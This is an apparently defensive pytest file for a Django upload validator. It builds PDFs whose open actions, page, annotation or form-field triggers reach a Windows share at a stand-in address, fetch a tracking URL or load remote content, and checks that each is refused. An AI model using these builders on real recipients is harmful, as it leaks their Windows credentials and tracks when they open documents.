"""PDFs that act by themselves when a reviewer opens them (issue 13, finding 8): an open action,
a document, page, annotation or form field trigger that opens \\\\203.0.113.9\\share (which leaks
the reader's Windows credentials) or fetches a tracking address (which tells the sender when and
where the order was opened). All are refused; a link that waits for a click stays. The files are
built here, as in test_uploads.py, and counted with its hostile files."""

import re
from collections.abc import Callable
from pathlib import Path

import pikepdf
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils.html import escape
from pikepdf import Array, Dictionary, Name, String

from authorities.constants import Instrument
from requests_app.models import Attachment, LegalRequest
from requests_app.uploads import check_upload
from tests.conftest import verified_login
from tests.figures import record
from tests.requests_app.helpers import submit
from tests.requests_app.test_uploads import (
    HANG_GUARD_SECONDS,
    PAGE,
    PAGES,
    blank_pdf,
    raw_pdf,
    refusal,
    saved,
)

WINDOWS_SHARE = r"\\203.0.113.9\share\x.pdf"
TRACKER = "https://tracker.example/p.gif"
AGAIN = "remove it, or print to PDF, and upload again."
OPENED = "runs an action by itself when it is opened"
GOTOR = "(GoToR to another file, possibly on a remote server)"
URI = "(URI to a web address)"


def remote_file() -> Dictionary:
    return Dictionary(
        Type=Name.Action, S=Name.GoToR, F=String(WINDOWS_SHARE), D=Array([0, Name.Fit])
    )


def tracking_address() -> Dictionary:
    return Dictionary(Type=Name.Action, S=Name.URI, URI=String(TRACKER))


def first_page(pdf: pikepdf.Pdf) -> Array:
    return Array([pdf.pages[0].obj, Name.Fit])


def with_annotation(pdf: pikepdf.Pdf, **entries) -> pikepdf.Pdf:
    annotation = Dictionary(Type=Name.Annot, Rect=Array([0, 0, 595, 842]), **entries)
    pdf.pages[0].Annots = Array([pdf.make_indirect(annotation)])
    return pdf


# Refused: actions a reader runs without a click ------------------------------------------------


def pdf_opening_a_windows_share_when_opened() -> bytes:
    pdf = blank_pdf()
    pdf.Root.OpenAction = remote_file()
    return saved(pdf)


def pdf_opening_an_embedded_or_remote_file_when_opened() -> bytes:
    pdf = blank_pdf()
    pdf.Root.OpenAction = Dictionary(
        S=Name.GoToE, F=String(WINDOWS_SHARE), D=Array([0, Name.Fit]), NewWindow=False
    )
    return saved(pdf)


def pdf_fetching_a_tracking_address_when_opened() -> bytes:
    pdf = blank_pdf()
    pdf.Root.OpenAction = tracking_address()
    return saved(pdf)


def pdf_printing_itself_when_opened() -> bytes:
    pdf = blank_pdf()
    pdf.Root.OpenAction = Dictionary(S=Name.Named, N=Name.Print)
    return saved(pdf)


def pdf_opening_a_windows_share_from_an_object_stream() -> bytes:
    pdf = blank_pdf()
    pdf.Root.OpenAction = pdf.make_indirect(remote_file())
    return saved(pdf, object_stream_mode=pikepdf.ObjectStreamMode.generate)


def pdf_whose_innocent_open_action_chains_a_tracking_address() -> bytes:
    pdf = blank_pdf()
    pdf.Root.OpenAction = Dictionary(S=Name.GoTo, D=first_page(pdf), Next=tracking_address())
    return saved(pdf)


def pdf_whose_open_action_chain_loops() -> bytes:
    # GoTo -> [itself, itself, ...]: a checker that follows /Next naively never returns.
    pdf = blank_pdf()
    action = pdf.make_indirect(Dictionary(S=Name.GoTo, D=first_page(pdf)))
    action.Next = Array([action] * 1000)
    pdf.Root.OpenAction = action
    return saved(pdf)


def pdf_whose_open_action_type_is_not_text() -> bytes:
    # /#FF#FE: a name no reader knows and that does not decode as UTF-8 (it stopped the checker).
    catalog = b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /#FF#FE /Next 4 0 R >> >>"
    chained = b"<< /S /GoTo /D [3 0 R /Fit] /Next 4 0 R >>"
    return raw_pdf([catalog, PAGES, PAGE, chained])


def pdf_reporting_when_it_is_closed() -> bytes:
    pdf = blank_pdf()
    pdf.Root.AA = Dictionary(WC=tracking_address())
    return saved(pdf)


def pdf_whose_page_opens_a_windows_share() -> bytes:
    # The shape of Check Point's "Bad-PDF" (CVE-2018-4993), with GoToR.
    pdf = blank_pdf()
    pdf.pages[0].AA = Dictionary(O=pdf.make_indirect(remote_file()))
    return saved(pdf)


def pdf_whose_annotation_fetches_a_tracking_address_when_its_page_opens() -> bytes:
    pdf = blank_pdf()
    return saved(with_annotation(pdf, Subtype=Name.Screen, AA=Dictionary(PO=tracking_address())))


def pdf_whose_form_field_kid_opens_a_windows_share() -> bytes:
    pdf = blank_pdf()
    kid = pdf.make_indirect(
        Dictionary(
            Type=Name.Annot,
            Subtype=Name.Widget,
            Rect=Array([10, 10, 200, 40]),
            P=pdf.pages[0].obj,
            AA=Dictionary(K=remote_file()),
        )
    )
    field = pdf.make_indirect(Dictionary(FT=Name.Tx, T=String("reference"), Kids=Array([kid])))
    kid.Parent = field
    pdf.pages[0].Annots = Array([kid])
    pdf.Root.AcroForm = Dictionary(Fields=Array([field]))
    return saved(pdf)


def with_form_xobject(pdf: pikepdf.Pdf, **entries) -> pikepdf.Pdf:
    """A form XObject drawn on the first page (the page's content shows it)."""
    form = pdf.make_stream(
        b"", Type=Name.XObject, Subtype=Name.Form, BBox=Array([0, 0, 595, 842]), **entries
    )
    pdf.pages[0].Resources = Dictionary(XObject=Dictionary(X1=form))
    pdf.pages[0].Contents = pdf.make_stream(b"q /X1 Do Q")
    return pdf


def pdf_whose_page_draws_a_stream_kept_on_a_windows_share() -> bytes:
    # No action at all: the stream's data is in the file /F names, fetched when the page shows.
    return saved(with_form_xobject(blank_pdf(), F=String(WINDOWS_SHARE)))


def pdf_whose_page_shows_a_page_of_a_remote_file() -> bytes:
    return saved(with_form_xobject(blank_pdf(), Ref=Dictionary(F=String(WINDOWS_SHARE), Page=0)))


def pdf_with_3d_artwork_that_activates_when_its_page_opens() -> bytes:
    pdf = blank_pdf()
    artwork = pdf.make_stream(b"U3D", Type=Name("/3D"), Subtype=Name.U3D)
    with_annotation(pdf, Subtype=Name("/3D"))
    annotation = pdf.pages[0].Annots[0]
    annotation[Name("/3DD")] = artwork  # keyword arguments cannot spell a name with a digit first
    annotation[Name("/3DA")] = Dictionary(A=Name.PO)
    return saved(pdf)


LOADS = "loads content from another file, possibly on a remote server, when a page is shown"

AUTOMATIC: list = [
    # (builder, what the refusal must say after "order.pdf ")
    (pdf_opening_a_windows_share_when_opened, f"{OPENED} {GOTOR}: {AGAIN}"),
    (
        pdf_opening_an_embedded_or_remote_file_when_opened,
        f"{OPENED} (GoToE to an embedded or remote file): {AGAIN}",
    ),
    (pdf_fetching_a_tracking_address_when_opened, f"{OPENED} {URI}: {AGAIN}"),
    (pdf_printing_itself_when_opened, f"{OPENED} (Named): {AGAIN}"),
    (pdf_opening_a_windows_share_from_an_object_stream, f"{OPENED} {GOTOR}: {AGAIN}"),
    (pdf_whose_innocent_open_action_chains_a_tracking_address, f"{OPENED} {URI}: {AGAIN}"),
    (pdf_whose_open_action_chain_loops, f"{OPENED} (GoTo): {AGAIN}"),
    (pdf_whose_open_action_type_is_not_text, f"{OPENED} (an action without a type): {AGAIN}"),
    (
        pdf_reporting_when_it_is_closed,
        f"runs an action by itself when it is closed, saved or printed {URI}: {AGAIN}",
    ),
    (
        pdf_whose_page_opens_a_windows_share,
        f"runs an action by itself when a page is opened or closed {GOTOR}: {AGAIN}",
    ),
    (
        pdf_whose_annotation_fetches_a_tracking_address_when_its_page_opens,
        "runs an action by itself when part of a page is shown, pointed at or focused "
        f"{URI}: {AGAIN}",
    ),
    (
        pdf_whose_form_field_kid_opens_a_windows_share,
        f"runs an action by itself when a form field is filled in or recalculated {GOTOR}: {AGAIN}",
    ),
    (
        pdf_whose_page_draws_a_stream_kept_on_a_windows_share,
        f"{LOADS} (a stream whose data is in another file): {AGAIN}",
    ),
    (
        pdf_whose_page_shows_a_page_of_a_remote_file,
        f"{LOADS} (a reference XObject that shows a page of another file): {AGAIN}",
    ),
    (
        pdf_with_3d_artwork_that_activates_when_its_page_opens,
        "contains active content (3DD).",
    ),
]


@pytest.mark.parametrize(
    ("build", "reason"),
    [pytest.param(build, reason, id=build.__name__) for build, reason in AUTOMATIC],
)
@pytest.mark.figure("hostile upload")
def test_pdf_that_acts_by_itself_is_refused_with_what_the_action_does(
    build: Callable[[], bytes], reason: str
):
    message, seconds = refusal(SimpleUploadedFile("order.pdf", build()))

    assert message == f"order.pdf {reason}"
    assert seconds < HANG_GUARD_SECONDS
    record("hostile upload", (seconds, build.__name__))


# Accepted: nothing happens until the reader clicks, or the open action only scrolls ------------


def test_link_to_a_web_address_is_accepted_because_it_needs_a_click():
    pdf = with_annotation(blank_pdf(), Subtype=Name.Link, A=tracking_address())

    assert check_upload(SimpleUploadedFile("order.pdf", saved(pdf))).pages == 1


def test_link_whose_action_chains_another_is_accepted_because_it_needs_a_click():
    pdf = blank_pdf()
    chained = Dictionary(S=Name.GoTo, D=first_page(pdf), Next=remote_file())

    with_annotation(pdf, Subtype=Name.Link, A=chained)

    assert check_upload(SimpleUploadedFile("order.pdf", saved(pdf))).pages == 1


def test_open_action_that_only_shows_a_page_is_accepted():
    # What LibreOffice and LaTeX write for "open at page 1, whole page": a destination array.
    pdf = blank_pdf(2)
    pdf.Root.OpenAction = Array([pdf.pages[1].obj, Name.Fit])

    assert check_upload(SimpleUploadedFile("order.pdf", saved(pdf))).pages == 2


# Through the submission page -------------------------------------------------------------------


@pytest.fixture
def private_media(settings, tmp_path) -> Path:
    settings.PRIVATE_MEDIA_ROOT = settings.MEDIA_ROOT = tmp_path / "private"
    return settings.PRIVATE_MEDIA_ROOT


@pytest.mark.django_db
def test_order_that_reaches_out_when_opened_is_refused_on_the_submission_page_and_not_stored(
    client, officer, private_media
):
    verified_login(client, officer)
    documents = [
        SimpleUploadedFile("order.pdf", pdf_opening_a_windows_share_when_opened()),
        SimpleUploadedFile("annex.pdf", pdf_whose_page_opens_a_windows_share()),
        SimpleUploadedFile("scan.pdf", pdf_fetching_a_tracking_address_when_opened()),
    ]

    response = submit(client, Instrument.EPOC, documents=documents)

    assert response.status_code == 200
    # Said once, in the summary at the top, linked to the documents field (issue 17).
    documents_row = " ".join(
        re.findall(r'<li id="problem-\d+"><a href="#id_documents">.*?</li>', response.text)
    )
    for expected in [
        f"order.pdf {OPENED} {GOTOR}: {AGAIN}",
        f"annex.pdf runs an action by itself when a page is opened or closed {GOTOR}: {AGAIN}",
        f"scan.pdf {OPENED} {URI}: {AGAIN}",
    ]:
        assert escape(expected) in documents_row
    assert not LegalRequest.objects.exists()
    assert not Attachment.objects.exists()
    assert [path for path in private_media.rglob("*") if path.is_file()] == []
